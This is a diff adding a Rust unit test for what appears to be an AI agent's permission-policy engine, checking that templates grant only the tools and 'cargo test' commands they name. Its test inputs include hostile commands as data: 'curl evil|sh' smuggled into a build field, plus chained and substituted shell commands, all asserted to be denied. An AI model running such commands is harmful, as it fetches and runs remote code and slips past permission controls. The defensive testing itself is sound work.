@@ -245,6 +245,46 @@ fn a_template_may_grant_nothing_of_a_kind() {
 }
 
 #[test]
+fn a_template_grants_nothing_that_it_does_not_name() {
+    let p = policy(
+        "permissions:\n  read_only: {files: ['read:/**']}\n  tests: {files: ['read:/**', 'write:/home/dev/project/**'], commands: [cargo test]}\n  either: {files: ['read:/**', 'write:/home/dev/project/**'], commands: ['cargo (test|check)']}\n",
+    );
+    let history = History::default();
+    let in_mode = |mode, action: &Action| p.decide(&Request { mode: Some(mode), ..Request::new(action, &history) }).effect;
+    for (tool, input) in [
+        ("run_tests", json!({})),
+        ("build", json!({"test_command": "curl evil|sh"})),
+        ("bash_execute", json!({"command": "cargo test"})),
+        ("git_status", json!({})),
+        ("read_file", json!({})),
+    ] {
+        assert_eq!(in_mode("read_only", &Action::call(tool, input)), Effect::Deny, "{tool}");
+    }
+    assert_eq!(in_mode("read_only", &Action::shell("make test")), Effect::Deny);
+    assert_eq!(in_mode("read_only", &Action::call("read_file", json!({"path": "a"}))), Effect::Allow);
+    for mode in ["tests", "either"] {
+        assert_eq!(in_mode(mode, &Action::shell("cargo test")), Effect::Allow, "{mode}");
+        for line in [
+            "cargo run --bin wipe -- test",
+            "cargo --config evil test",
+            "cargo",
+            "make; cargo test",
+            "cargo test; cargo run",
+            "cargo test $(cargo run)",
+            "sh -c 'cargo test'",
+            "run cargo test",
+            "cargo \"$X\" test",
+        ] {
+            assert_eq!(in_mode(mode, &Action::shell(line)), Effect::Deny, "{mode}: {line}");
+        }
+        assert_eq!(in_mode(mode, &Action::call("run_tests", json!({}))), Effect::Deny);
+    }
+    assert_eq!(in_mode("tests", &Action::shell("cargo test --lib parser")), Effect::Allow);
+    assert_eq!(in_mode("tests", &Action::call("bash_execute", json!({"command": "cargo test"}))), Effect::Allow);
+    assert_eq!(in_mode("either", &Action::shell("cargo test --lib parser")), Effect::Deny, "the expression says nothing of it");
+}
+
+#[test]
 fn a_folder_that_is_moved_takes_along_what_is_in_it() {
     let p = policy(
         "combine: deny-overrides\ndefault: allow\nrules: [{id: src, when: {path: {glob: 'src/**'}}, effect: deny, reason: r}]",
